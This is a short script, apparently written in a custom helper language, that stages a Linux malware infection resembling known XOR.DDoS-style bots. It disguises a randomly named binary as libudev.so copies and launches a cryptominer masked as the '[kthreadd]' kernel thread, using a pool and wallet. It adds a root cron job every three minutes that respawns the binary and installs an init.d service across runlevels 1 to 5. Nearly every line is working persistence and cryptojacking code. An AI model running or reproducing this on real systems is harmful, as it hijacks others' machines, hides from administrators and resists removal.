# Killing it makes a new name; the copy in /lib stays.
mimic /usr/bin/qkzvhmwtye /usr/lib/libudev.so /usr/lib/libudev.so.6 /var/tmp/.kthread/kthreadd
start /usr/bin/qkzvhmwtye 'cat resolv.conf'
start -d 15 -p "$POOL" /var/tmp/.kthread/kthreadd '[kthreadd]' -o "$POOL" -u "$WALLET"
echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >>/etc/crontab
script /etc/cron.hourly/gcc.sh <<'SH'
#!/bin/sh
PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin
for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done
cp /lib/libudev.so /lib/libudev.so.6
/lib/libudev.so.6
SH
script /etc/init.d/qkzvhmwtye <<'SH'
#!/bin/sh
# chkconfig: 12345 90 90
### BEGIN INIT INFO
# Provides:		qkzvhmwtye
# Default-Start:	1 2 3 4 5
# Short-Description:	qkzvhmwtye
### END INIT INFO
case $1 in
start) /usr/bin/qkzvhmwtye ;;
stop) ;;
*) /usr/bin/qkzvhmwtye ;;
esac
SH
for n in 1 2 3 4 5; do ln -sf ../init.d/qkzvhmwtye /etc/rc$n.d/S90qkzvhmwtye; done
